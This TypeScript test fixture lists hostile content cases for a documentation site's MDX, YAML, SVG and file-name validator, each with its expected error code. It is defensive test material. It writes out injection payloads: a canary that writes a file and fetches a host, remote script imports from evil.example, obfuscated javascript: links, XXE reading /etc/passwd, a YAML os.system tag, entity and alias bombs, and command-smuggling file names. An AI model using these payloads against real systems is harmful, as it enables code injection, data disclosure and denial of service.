import type { FileFault } from "../../../reader/content-files.ts";
import { chapterText, pageText, settingsText } from "../fixtures.ts";

/** A file that an attacker could send as a change of content. */
export interface HostileCase {
  /** What it is, to end a sentence that starts with "a change with". */
  name: string;
  /** Left out: a chapter. */
  path?: string;
  /** The file's text. Where it can run, it runs `attack`. */
  text: string;
  /** What the reader of files found, for what is not in the text. */
  fault?: FileFault;
  /** The code of the problem that must be reported in this file. */
  code: string;
  /** True if the attack really runs when the text is evaluated as MDX: then the canary is no dead one. */
  runs?: boolean;
}

/** JavaScript that leaves a trace in every way a test can see: a variable, a file and a request. */
export const attack =
  '(globalThis.struck = true, process.getBuiltinModule("node:fs").writeFileSync(process.env.CANARY, "struck"), fetch("http://canary.invalid/"))';

/** The same without quotation marks, for where those would end the attack. */
const quiet = "(globalThis.struck = true)";

const body = (text: string) => chapterText({}, text);
const details = (fields: Record<string, string>) => chapterText(fields);

const code: HostileCase[] = [
  { name: "an import", code: "no-code", text: body('import { rmSync } from "node:fs"\n') },
  { name: "an import for its effect", code: "no-code", text: body('import "./evil.mjs"\n') },
  {
    name: "an import from another site",
    code: "no-code",
    text: body('import "https://evil.example/x.mjs"\n'),
  },
  {
    name: "an import of data that is code",
    code: "no-code",
    text: body('import "data:text/javascript,evil()"\n'),
  },
  { name: "an export", code: "no-code", runs: true, text: body(`export const evil = ${attack}\n`) },
  {
    name: "an export of a function that is called",
    code: "no-code",
    runs: true,
    text: body(`export const evil = (() => ${attack})()\n`),
  },
  { name: "an export without a space", code: "no-code", text: body("export{}\n") },
  {
    name: "an export of all that another file has",
    code: "no-code",
    text: body('export * from "./evil.mjs"\n'),
  },
  {
    name: "a layout of its own by export",
    code: "no-code",
    text: body("export default ({ children }) => children\n"),
  },
  {
    name: "an export right after a heading",
    code: "no-code",
    runs: true,
    text: body(`## One\nexport const evil = ${attack}\n`),
  },
  {
    name: "an export within a callout",
    code: "no-code",
    runs: true,
    text: body(`<Callout kind="local">\n\nexport const evil = ${attack}\n\n</Callout>\n`),
  },
  {
    name: "an export between lines of hyphens",
    code: "no-code",
    runs: true,
    text: body(`---\n\nexport const evil = ${attack}\n\n---\n`),
  },
  {
    name: "an export between lines of plus signs",
    code: "no-code",
    runs: true,
    text: body(`+++\n\nexport const evil = ${attack}\n\n+++\n`),
  },
  {
    name: "an export after shown code",
    code: "no-code",
    runs: true,
    text: body(`\`\`\`\nshown\n\`\`\`\nexport const evil = ${attack}\n`),
  },
  {
    name: "an export of many lines",
    code: "no-code",
    runs: true,
    text: body(`export const evil = [\n  ${attack},\n]\n`),
  },
  { name: "an expression in a line", code: "no-code", runs: true, text: body(`Two is {${attack}}.\n`) },
  { name: "an expression on lines of its own", code: "no-code", runs: true, text: body(`{\n${attack}\n}\n`) },
  {
    name: "an expression after a note",
    code: "no-code",
    runs: true,
    text: body(`{/* a note */ ${attack}}\n`),
  },
  {
    name: "an expression between two notes",
    code: "no-code",
    runs: true,
    text: body(`{/* a */ ${attack} /* b */}\n`),
  },
  {
    name: "an expression after a note of one line",
    code: "no-code",
    runs: true,
    text: body(`{// a note\n${attack}\n}\n`),
  },
  {
    name: "an expression in what looks like a note",
    code: "no-code",
    text: body(`\`{/*\` {${attack}} */}\n`),
  },
  { name: "an expression in a heading", code: "no-code", runs: true, text: body(`## One {${attack}}\n`) },
  {
    name: "an expression in place of a heading's id",
    code: "no-code",
    runs: true,
    text: body(`## One {onclick=${quiet}}\n`),
  },
  { name: "an expression in a list", code: "no-code", runs: true, text: body(`- one\n- {${attack}}\n`) },
  { name: "an expression in a quotation", code: "no-code", runs: true, text: body(`> {${attack}}\n`) },
  {
    name: "an expression in a table",
    code: "no-code",
    runs: true,
    text: body(`<Table caption="A">\n\n| A |\n| - |\n| {${quiet}} |\n\n</Table>\n`),
  },
  {
    name: "an expression in the words of a link",
    code: "no-code",
    runs: true,
    text: body(`[{${attack}}](/contents/)\n`),
  },
  { name: "an expression in bold words", code: "no-code", runs: true, text: body(`**{${attack}}**\n`) },
  {
    name: "an expression within a component",
    code: "no-code",
    runs: true,
    text: body(`A <Term id="x">{${attack}}</Term>.\n`),
  },
  {
    name: "an expression in code marks that a line start breaks",
    code: "no-code",
    runs: true,
    text: body(`\`shown\n{${attack}}\nshown\`\n`),
  },
  {
    name: "an expression in code marks that a table breaks",
    code: "no-code",
    text: body(`<Table caption="A">\n\n| A |\n| - |\n| \`b|{${quiet}}\` |\n\n</Table>\n`),
  },
  {
    name: "an expression after an escaped backslash",
    code: "no-code",
    runs: true,
    text: body(`\\\\{${attack}}\n`),
  },
  { name: "an expression indented like code", code: "no-code", runs: true, text: body(`    {${attack}}\n`) },
  {
    name: "a text in backticks as an expression",
    code: "no-code",
    runs: true,
    text: body(`{\`\${${attack}}\`}\n`),
  },
  {
    name: "a function that calls itself",
    code: "no-code",
    runs: true,
    text: body(`{(function () { return ${quiet} })()}\n`),
  },
  {
    name: "a constructor that is reached through a text",
    code: "no-code",
    runs: true,
    text: body(`{"".constructor.constructor("globalThis.struck = true")()}\n`),
  },
  { name: "an import within an expression", code: "no-code", text: body('{import("node:fs")}\n') },
  { name: "a reading of the builder's environment", code: "no-code", text: body("{process.env.HOME}\n") },
  { name: "a reading of the details", code: "no-code", text: body("{frontmatter.title}\n") },
  { name: "an empty expression", code: "no-code", text: body("{}\n") },
  { name: "mark-up made by an expression", code: "no-code", text: body("{<script>evil()</script>}\n") },
  {
    name: "a value that is an expression",
    code: "no-code",
    runs: true,
    text: body(`<Term id={${attack}}>x</Term>\n`),
  },
  { name: "a value that is a text in brackets", code: "no-code", text: body('<Term id={"sar"}>x</Term>\n') },
  {
    name: "a value that is mark-up",
    code: "no-code",
    text: body("<Callout kind={<script>evil()</script>}>\n\nText.\n\n</Callout>\n"),
  },
  {
    name: "a spread of values",
    code: "no-code",
    runs: true,
    text: body(`<Term id="x" {...${attack}}>x</Term>\n`),
  },
  { name: "a spread of the whole machine", code: "no-code", text: body('<Term id="x" {...globalThis} />\n') },
  {
    name: "brackets in a quoted value",
    code: "no-code",
    text: body('<Callout kind="local" title="{evil()}">\n\nText.\n\n</Callout>\n'),
  },
];

const markup: HostileCase[] = [
  { name: "a script", code: "no-html", text: body("<script>evil()</script>\n") },
  {
    name: "a script from another site",
    code: "no-html",
    text: body('<script src="https://evil.example/x.js"></script>\n'),
  },
  { name: "a script in capitals", code: "unknown-component", text: body("<SCRIPT>evil()</SCRIPT>\n") },
  {
    name: "a frame of another site",
    code: "no-html",
    text: body('<iframe src="https://evil.example/"></iframe>\n'),
  },
  { name: "an embedded object", code: "no-html", text: body('<object data="evil.swf"></object>\n') },
  { name: "an embedded file", code: "no-html", text: body('<embed src="evil.swf" />\n') },
  { name: "a style sheet", code: "no-html", text: body("<style>a</style>\n") },
  {
    name: "a link to a style sheet",
    code: "no-html",
    text: body('<link rel="stylesheet" href="https://evil.example/x.css" />\n'),
  },
  {
    name: "a new base for all links",
    code: "no-html",
    text: body('<base href="https://evil.example/" />\n'),
  },
  {
    name: "a page that sends the reader on",
    code: "no-html",
    text: body('<meta http-equiv="refresh" content="0;url=https://evil.example/" />\n'),
  },
  {
    name: "a form that asks for a password",
    code: "no-html",
    text: body('<form action="https://evil.example/"><input name="password" /></form>\n'),
  },
  { name: "a picture with an event", code: "no-html", text: body('<img src="x" onerror="evil()" />\n') },
  { name: "a word with an event", code: "no-html", text: body('<b onmouseover="evil()">bold</b>\n') },
  {
    name: "a word with a style",
    code: "no-html",
    text: body('<span style="position:fixed;inset:0">x</span>\n'),
  },
  {
    name: "a drawing in the text with an event",
    code: "no-html",
    text: body('<svg onload="evil()"></svg>\n'),
  },
  { name: "a formula with a link", code: "no-html", text: body('<math href="javascript:evil()">x</math>\n') },
  { name: "a template", code: "no-html", text: body("<template>x</template>\n") },
  { name: "an element of a made-up name", code: "no-html", text: body("<evil-element>x</evil-element>\n") },
  { name: "an element with a namespace", code: "no-html", text: body("<svg:script>evil</svg:script>\n") },
  { name: "a part of an object as an element", code: "no-html", text: body("<process.exit />\n") },
  {
    name: "a link with a script as HTML",
    code: "no-html",
    text: body('<a href="javascript:evil()">x</a>\n'),
  },
  {
    name: "a video with an event",
    code: "no-html",
    text: body('<video><source onerror="evil()" /></video>\n'),
  },
  { name: "an HTML comment", code: "mdx-syntax", text: body("<!-- a note -->\n") },
  { name: "a document type", code: "mdx-syntax", text: body("<!DOCTYPE html>\n") },
  { name: "a processing instruction", code: "mdx-syntax", text: body("<?php evil() ?>\n") },
  {
    name: "a component of Astro's that writes HTML",
    code: "unknown-component",
    text: body('<Fragment set:html="<script>evil()</script>" />\n'),
  },
  {
    name: "HTML as a value of a component",
    code: "unknown-prop",
    text: body('<Callout kind="local" set:html="<script>evil()</script>">\n\nText.\n\n</Callout>\n'),
  },
  {
    name: "a component that starts in the browser",
    code: "unknown-prop",
    text: body('<Callout kind="local" client:load="x">\n\nText.\n\n</Callout>\n'),
  },
  {
    name: "a component that starts on a server",
    code: "unknown-prop",
    text: body('<Callout kind="local" server:defer="x">\n\nText.\n\n</Callout>\n'),
  },
  { name: "a component that does not exist", code: "unknown-component", text: body("<Evil />\n") },
  { name: "a component of JavaScript's own", code: "unknown-component", text: body("<Object />\n") },
  {
    name: "a component named as every object's parent",
    code: "unknown-component",
    text: body("<__proto__ />\n"),
  },
  { name: "a component named as every object's maker", code: "no-html", text: body("<constructor />\n") },
  { name: "a part of a component", code: "unknown-component", text: body('<Term.constructor id="x" />\n') },
  { name: "a tag without a name", code: "unknown-component", text: body("<>Text.</>\n") },
  {
    name: "an event on a component",
    code: "unknown-prop",
    text: body('<Cite id="dpa-2018" onclick="evil()" />\n'),
  },
  {
    name: "a style on a component",
    code: "unknown-prop",
    text: body('<Cite id="dpa-2018" style="color:red" />\n'),
  },
  {
    name: "a prop named as every object's parent",
    code: "unknown-prop",
    text: body('<Cite id="dpa-2018" __proto__="x" />\n'),
  },
  {
    name: "a prop named as every object's maker",
    code: "unknown-prop",
    text: body('<Cite id="dpa-2018" constructor="x" />\n'),
  },
  {
    name: "a prop named as every object's text",
    code: "unknown-prop",
    text: body('<Callout kind="local" toString="x">\n\nText.\n\n</Callout>\n'),
  },
  { name: "the same prop twice", code: "prop-twice", text: body('<Cite id="dpa-2018" id="evil" />\n') },
  { name: "an event on a heading", code: "no-code", text: body("## One {#one onclick=alert}\n") },
  { name: "a style on a heading", code: "no-code", text: body("## One {#one style=x}\n") },
  { name: "HTML as a value of a heading", code: "no-code", text: body("## One {set:html=evil}\n") },
  { name: "a class on a heading", code: "no-code", text: body("## One {#one .visually-hidden}\n") },
  {
    name: "an event on a heading that is underlined",
    code: "no-code",
    text: body("One {#one onclick=alert}\n---\n"),
  },
  { name: "a picture of another site", code: "no-image", text: body("![x](https://evil.example/x.png)\n") },
  {
    name: "a picture that is any file of the builder's machine",
    code: "no-image",
    text: body("![x](../../../../../etc/passwd)\n"),
  },
  {
    name: "a picture given elsewhere",
    code: "no-image",
    text: body("![x][y]\n\n[y]: https://evil.example/x.png\n"),
  },
  {
    name: "a figure outside the pictures",
    code: "unknown-image",
    text: body('<Figure src="../../public/icon.svg" alt="x" />\n'),
  },
  {
    name: "a link to a chapter outside the chapters",
    code: "unknown-chapter",
    text: body('<ChapterLink to="../../package" />\n'),
  },
];

const link = (address: string) => body(`[Read this](${address})\n`);

const addresses: HostileCase[] = [
  ...[
    "javascript:evil%28%29",
    "JaVaScRiPt:evil",
    "&#106;avascript:evil",
    "&#x6A;avascript&colon;evil",
    "java&#10;script:evil",
    "java&Tab;script:evil",
    "java&#xAD;script:evil",
    "<javascript:evil ()>",
    "vbscript:evil",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "view-source:https://evil.example/",
    "intent://evil.example/",
    "ms-word:ofe|u|https://evil.example/x.docm",
    "ftp://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "\\\\\\\\evil.example/",
    "/\\\\evil.example/",
    "https:/\\\\evil.example/",
    "https:evil.example",
    "https:///evil.example/",
    "https://www.gov.uk@evil.example/",
    "https://user:password@evil.example/",
    "https://gо­v.uk/",
    "https://gоv.uk/",
    "https://evil.example&#x202E;/",
    "https://evil%2Eexample/",
  ].map((address): HostileCase => ({
    name: `a link to ${address}`,
    code: "unsafe-link",
    text: link(address),
  })),
  {
    name: "an unsafe address given elsewhere",
    code: "unsafe-link",
    text: body("[x][y]\n\n[y]: javascript:evil\n"),
  },
  { name: "an unsafe address that nothing uses", code: "unsafe-link", text: body("[y]: javascript:evil\n") },
  { name: "an unsafe address in pointed brackets", code: "mdx-syntax", text: body("<javascript:evil()>\n") },
  {
    name: "a bare address with a name before the site",
    code: "unsafe-link",
    text: body("See https://www.gov.uk@evil.example/\n"),
  },
  {
    name: "a link with a control character before its scheme",
    code: "unknown-address",
    text: link("&#1;javascript:evil"),
  },
  {
    name: "a link out of the manual by two dots",
    code: "unknown-address",
    text: link("../../../etc/passwd"),
  },
  {
    name: "an unsafe address of a contact",
    path: "content/contacts.yaml",
    code: "wrong-value",
    text: "- id: ico\n  name: A\n  purpose: B\n  source: javascript:evil()\n  confirmed: true\n",
  },
  {
    name: "a contact's address with a name before the site",
    path: "content/contacts.yaml",
    code: "wrong-value",
    text: "- id: ico\n  name: A\n  purpose: B\n  source: https://ico.org.uk@evil.example/\n  confirmed: true\n",
  },
  {
    name: "a contact's address with a line break",
    path: "content/contacts.yaml",
    code: "wrong-value",
    text: '- id: ico\n  name: A\n  purpose: B\n  source: "https://ico.org.uk/\\nx"\n  confirmed: true\n',
  },
  {
    name: "a contact's address without slashes",
    path: "content/contacts.yaml",
    code: "wrong-value",
    text: "- id: ico\n  name: A\n  purpose: B\n  source: https:evil.example\n  confirmed: true\n",
  },
  {
    name: "an e-mail address that is code",
    path: "content/contacts.yaml",
    code: "wrong-value",
    text: '- id: ico\n  name: A\n  purpose: B\n  email: "javascript:evil()"\n  source: https://ico.org.uk/\n  confirmed: true\n',
  },
  {
    name: "an unsafe address of a source",
    path: "content/sources.yaml",
    code: "wrong-value",
    text: "- id: dpa-2018\n  kind: act\n  title: A\n  shortName: A\n  publisher: B\n  address: data:text/html,x\n  appliesTo: England\n",
  },
  {
    name: "an old address on another site",
    code: "wrong-value",
    text: details({ oldPaths: "[//evil.example/]" }),
  },
  {
    name: "an old address above the manual",
    code: "wrong-value",
    text: details({ oldPaths: "[/../../etc/passwd]" }),
  },
  {
    name: "an old address with a line break for the server",
    code: "wrong-value",
    text: details({ oldPaths: '["/a\\n/* https://evil.example/ 301"]' }),
  },
  {
    name: "an accent colour that is a style sheet",
    path: "content/manual.yaml",
    code: "wrong-value",
    text: settingsText({ accent: '{ light: "#000}*{background:url(//evil.example)", dark: "#8fd3f4" }' }),
  },
];

const yaml: HostileCase[] = [
  {
    name: "a tag that builds a function",
    code: "yaml-tag",
    text: details({ title: "!!js/function 'function () { evil() }'" }),
  },
  {
    name: "a tag of Python's",
    code: "yaml-tag",
    text: details({ title: "!!python/object/apply:os.system [evil]" }),
  },
  { name: "a tag that builds bytes", code: "yaml-tag", text: details({ title: "!!binary aGk=" }) },
  { name: "a tag of its own", code: "yaml-tag", text: details({ title: "!evil Text" }) },
  {
    name: "an anchor and an alias",
    code: "yaml-aliases",
    text: details({ title: "&a Asking", scope: "*a" }),
  },
  {
    name: "aliases that multiply",
    path: "content/glossary.yaml",
    code: "yaml-aliases",
    text: `- &a [x, x]\n${"bcdefghij"
      .split("")
      .map(
        (name, index) =>
          `- &${name} [${"*a *b *c *d *e *f *g *h *i".split(" ")[index] ?? ""}, ${"*a *b *c *d *e *f *g *h *i".split(" ")[index] ?? ""}]\n`,
      )
      .join("")}`,
  },
  { name: "an alias of itself", path: "content/parts.yaml", code: "yaml-aliases", text: "- &a [*a]\n" },
  { name: "a merge key", code: "yaml-key", text: details({ "<<": "{ status: approved }" }) },
  {
    name: "a key named as every object's parent",
    code: "yaml-key",
    text: details({ __proto__x: "1" }).replace("__proto__x", "__proto__"),
  },
  {
    name: "a key named as every object's maker",
    code: "unknown-field",
    text: details({ constructor: "{ prototype: { evil: true } }" }),
  },
  {
    name: "a key of an entry named as every object's parent",
    path: "content/glossary.yaml",
    code: "yaml-key",
    text: "- id: a\n  __proto__: { confirmed: true }\n",
  },
  {
    name: "the same key twice",
    code: "field-twice",
    text: details({}).replace("status: draft", "status: draft\nstatus: approved"),
  },
  {
    name: "a second document",
    path: "content/parts.yaml",
    code: "yaml-documents",
    text: "[]\n---\n- id: evil\n",
  },
  {
    name: "a second document in the details",
    code: "yaml-documents",
    text: details({}).replace("status:", "...\nstatus:"),
  },
  { name: "a directive", path: "content/parts.yaml", code: "yaml-directive", text: "%YAML 1.1\n---\n[]\n" },
  {
    name: "brackets without end in the details",
    code: "yaml-too-deep",
    text: details({ aliases: "[".repeat(5000) }),
  },
  {
    name: "lists without end",
    path: "content/parts.yaml",
    code: "yaml-too-deep",
    text: `${"- ".repeat(5000)}a\n`,
  },
  {
    name: "keys of keys without end",
    path: "content/parts.yaml",
    code: "yaml-key",
    text: `${"? ".repeat(5000)}a\n`,
  },
  { name: "details of absurd size", code: "details-too-big", text: details({ scope: "word ".repeat(5000) }) },
  { name: "a layout in the details", code: "unknown-field", text: details({ layout: "../../evil.astro" }) },
  {
    name: "an address of its own in the details",
    code: "unknown-field",
    text: details({ slug: "../../evil" }),
  },
  {
    name: "details that end with more than hyphens",
    code: "frontmatter-end",
    text: details({}).replace("---\n##", `--- ${attack}\n---\n##`),
  },
  {
    name: "details that end with plus signs",
    code: "frontmatter-end",
    text: details({}).replace("---\n##", `+++\nexport const evil = ${attack}\n---\n##`),
  },
  {
    name: "details in another language",
    code: "no-frontmatter",
    text: `+++\ntitle = "Asking"\n+++\n{${attack}}\n`,
  },
  { name: "details after an empty line", code: "no-frontmatter", text: `\n${details({})}` },
  { name: "a script as a title", code: "wrong-type", text: details({ title: "[<script>evil()</script>]" }) },
];

const page = pageText({ title: "Another page" });
const drawing = (inner: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"${attributes}>${inner}</svg>\n`;
const picture = (name: string, text: string): HostileCase => ({
  name: `a drawing with ${name}`,
  path: "content/images/hostile.svg",
  code: "unsafe-picture",
  text,
});

const files: HostileCase[] = [
  {
    name: "a script beside a chapter",
    path: "content/chapters/records/evil.js",
    code: "wrong-file",
    text: attack,
  },
  {
    name: "a typed script beside a chapter",
    path: "content/chapters/records/evil.ts",
    code: "wrong-file",
    text: attack,
  },
  {
    name: "a component beside a chapter",
    path: "content/chapters/records/evil.astro",
    code: "wrong-file",
    text: `---\n${attack}\n---\n`,
  },
  {
    name: "a chapter in plain Markdown with HTML",
    path: "content/chapters/records/evil.md",
    code: "wrong-file",
    text: "<script>evil()</script>\n",
  },
  {
    name: "a page of HTML",
    path: "content/pages/evil.html",
    code: "wrong-file",
    text: "<script>evil()</script>\n",
  },
  {
    name: "a package that the chapters would load",
    path: "content/node_modules/astro/jsx-runtime.js",
    code: "wrong-file",
    text: attack,
  },
  {
    name: "settings for the compiler",
    path: "content/chapters/tsconfig.json",
    code: "wrong-file",
    text: '{ "extends": "./evil.json" }',
  },
  {
    name: "settings for packages",
    path: "content/package.json",
    code: "wrong-file",
    text: '{ "imports": {} }',
  },
  {
    name: "secrets for the build",
    path: "content/.env",
    code: "wrong-file",
    text: "BASE_URL=https://evil.example/\n",
  },
  {
    name: "a chapter that is hidden",
    path: "content/chapters/records/.evil.mdx",
    code: "unsafe-file-name",
    text: chapterText(),
  },
  {
    name: "a chapter outside every part",
    path: "content/chapters/evil.mdx",
    code: "wrong-file",
    text: chapterText(),
  },
  {
    name: "a chapter too far down",
    path: "content/chapters/records/more/evil.mdx",
    code: "wrong-file",
    text: chapterText(),
  },
  { name: "a page too far down", path: "content/pages/more/evil.mdx", code: "wrong-file", text: page },
  {
    name: "a chapter by another end of its name",
    path: "content/chapters/records/evil.MDX",
    code: "wrong-file",
    text: chapterText(),
  },
  { name: "a name with a space", path: "content/pages/my page.mdx", code: "unsafe-file-name", text: page },
  { name: "a name with capitals", path: "content/pages/Privacy.mdx", code: "unsafe-file-name", text: page },
  { name: "a name with a dot", path: "content/pages/privacy.html.mdx", code: "unsafe-file-name", text: page },
  { name: "a name of two dots", path: "content/pages/...mdx", code: "unsafe-file-name", text: page },
  {
    name: "a name with a percent sign",
    path: "content/pages/%2e%2e%2fevil.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with a question mark",
    path: "content/pages/privacy?evil.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with a number sign",
    path: "content/pages/privacy#evil.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with a letter that looks like another",
    path: "content/pages/рrivacy.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with an invisible character",
    path: "content/pages/priv\u200Bacy.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name that is turned round",
    path: "content/pages/a\u202Exdm.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with a line break for the workflow",
    path: "content/pages/a\n::stop-commands::x.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with a backslash",
    path: "content/pages/..\\evil.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name with quotation marks",
    path: 'content/pages/a";evil().mdx',
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a name that starts with a hyphen",
    path: "content/pages/-rf.mdx",
    code: "unsafe-file-name",
    text: page,
  },
  { name: "a name that Windows keeps", path: "content/pages/aux.mdx", code: "unsafe-file-name", text: page },
  {
    name: "a name without end",
    path: `content/pages/${"a".repeat(200)}.mdx`,
    code: "unsafe-file-name",
    text: page,
  },
  {
    name: "a list with an unsafe name",
    path: "content/__proto__.yaml",
    code: "unsafe-file-name",
    text: "[]\n",
  },
  ...[
    "search",
    "print",
    "glossary",
    "updates",
    "search-index",
    "law",
    "time-limits",
    "a-to-z",
    "index",
    "404",
  ].map((name): HostileCase => ({
    name: `a page in the place of /${name}/`,
    path: `content/pages/${name}.mdx`,
    code: "address-taken",
    text: page,
  })),
  {
    name: "a page in the place of a part",
    path: "content/pages/records.mdx",
    code: "address-taken",
    text: page,
  },
  {
    name: "a part in the place of the search",
    path: "content/chapters/search/evil.mdx",
    code: "address-taken",
    text: chapterText(),
  },
  {
    name: "a part in the place of the search, in the list",
    path: "content/parts.yaml",
    code: "address-taken",
    text: "- id: search\n  title: A\n  description: B\n  chapters: []\n",
  },
  {
    name: "a chapter in the place of its part",
    path: "content/chapters/records/index.mdx",
    code: "address-taken",
    text: chapterText(),
  },
  {
    name: "a link to a file outside",
    path: "content/chapters/records/evil.mdx",
    fault: "link",
    code: "link-to-file",
    text: "",
  },
  {
    name: "settings that are a link to a file outside",
    path: "content/manual.yaml",
    fault: "link",
    code: "link-to-file",
    text: "",
  },
  {
    name: "a pipe",
    path: "content/chapters/records/evil.mdx",
    fault: "not-a-file",
    code: "not-a-file",
    text: "",
  },
  {
    name: "a chapter of absurd size",
    path: "content/chapters/records/evil.mdx",
    fault: "too-big",
    code: "file-too-big",
    text: "",
  },
  {
    name: "a glossary of absurd size",
    path: "content/glossary.yaml",
    fault: "too-big",
    code: "file-too-big",
    text: "",
  },
  {
    name: "lines that end in two ways at once",
    path: "content/chapters/records/evil.mdx",
    fault: "old-line-ends",
    code: "old-line-ends",
    text: "",
  },
  {
    name: "bytes that are no text",
    path: "content/chapters/records/evil.mdx",
    fault: "not-text",
    code: "not-text",
    text: "",
  },
  {
    name: "a program that is called a picture",
    path: "content/images/evil.png",
    fault: "not-a-picture",
    code: "not-a-picture",
    text: "",
  },
  {
    name: "a picture of a kind that can be more",
    path: "content/images/evil.pdf",
    code: "wrong-file",
    text: "",
  },
  picture("a script", drawing("<script>evil()</script>")),
  picture(
    "a script of another name",
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:a="http://www.w3.org/2000/svg"><a:script>evil()</a:script></svg>`,
  ),
  picture("an event of its own", drawing("<rect width='9' height='9'/>", ' onload="evil()"')),
  picture("an event in capitals", drawing('<rect ONCLICK="evil()"/>')),
  picture("an animation that sets a link", drawing('<set attributeName="href" to="javascript:evil()"/>')),
  picture("HTML in it", drawing("<foreignObject><iframe/></foreignObject>")),
  picture("a link that runs code", drawing('<a href="javascript:evil()"><text>x</text></a>')),
  picture("a part of another file", drawing('<use href="https://evil.example/x.svg#a"/>')),
  picture(
    "a part of another file by an old name",
    drawing('<use xlink:href="data:image/svg+xml;base64,x#a"/>'),
  ),
  picture("a picture of another site", drawing('<image href="https://evil.example/x.png"/>')),
  picture("a style sheet", drawing("<style>@import url(//evil.example)</style>")),
  picture("a style that loads", drawing('<rect style="fill:url(//evil.example/x)"/>')),
  picture("a style that hides what it loads", drawing('<rect style="fill:u\\72l(//evil.example/x)"/>')),
  picture("a fill that loads", drawing('<rect fill="url(https://evil.example/x#a)"/>')),
  picture(
    "a declaration of parts that multiply",
    '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
  ),
  picture(
    "a part of the builder's machine",
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
  ),
  picture(
    "a style sheet before it",
    '<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  ),
  picture(
    "another kind of document",
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>evil()</script></html>',
  ),
  picture("another kind of document in it", drawing('<title xmlns="http://www.w3.org/1999/xhtml">x</title>')),
  picture("something after it", `${drawing("")}<script>evil()</script>`),
  picture(
    "an encoding that hides its text",
    '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  ),
  picture("a comment that ends twice", drawing("<!-- a --><script>evil()</script><!-- -->")),
  picture("groups without end", drawing("<g>".repeat(10_000))),
];

const absurd: HostileCase[] = [
  { name: "quotations without end", code: "too-deep", text: body(`${">".repeat(20_000)} a\n`) },
  { name: "lists in the text without end", code: "too-deep", text: body(`${"- ".repeat(20_000)}a\n`) },
  { name: "numbered lists without end", code: "too-deep", text: body(`${"1. ".repeat(20_000)}a\n`) },
  {
    name: "lists that step in without end",
    code: "too-deep",
    text: body(Array.from({ length: 60 }, (_, index) => `${"  ".repeat(index)}- a`).join("\n")),
  },
  {
    name: "callouts without end",
    code: "too-deep",
    text: body(`${"<Callout>".repeat(2000)}${"</Callout>".repeat(2000)}\n`),
  },
  {
    name: "bold words without end",
    code: "too-deep",
    text: body(`${"*a ".repeat(2000)}${"b*".repeat(2000)}\n`),
  },
  { name: "tags that are never closed", code: "mdx-syntax", text: body("<Callout>".repeat(5000)) },
  { name: "brackets that are never closed", code: "mdx-syntax", text: body("{".repeat(50_000)) },
  {
    name: "brackets within brackets",
    code: "no-code",
    text: body(`${"{".repeat(20_000)}${"}".repeat(20_000)}\n`),
  },
  {
    name: "round brackets that overflow the parser",
    code: "no-code",
    text: body(`{${"(".repeat(20_000)}${")".repeat(20_000)}}\n`),
  },
  {
    name: "an export that overflows the parser",
    code: "no-code",
    text: body(`export const a = ${"[".repeat(20_000)}${"]".repeat(20_000)}\n`),
  },
  {
    name: "a value that overflows the parser",
    code: "no-code",
    text: body(`<Term id={${"!".repeat(60_000)}a} />\n`),
  },
  {
    name: "tags in an expression that the parser never finishes",
    code: "no-code",
    text: body(`{${"<a>".repeat(500)}b}\n`),
  },
  {
    name: "a text within texts that the parser never finishes",
    code: "mdx-syntax",
    text: body(`{${"`${".repeat(10_000)}`),
  },
];

/** Everything that an attacker is known to try. */
export const hostileCases: readonly HostileCase[] = [
  ...code,
  ...markup,
  ...addresses,
  ...yaml,
  ...files,
  ...absurd,
];
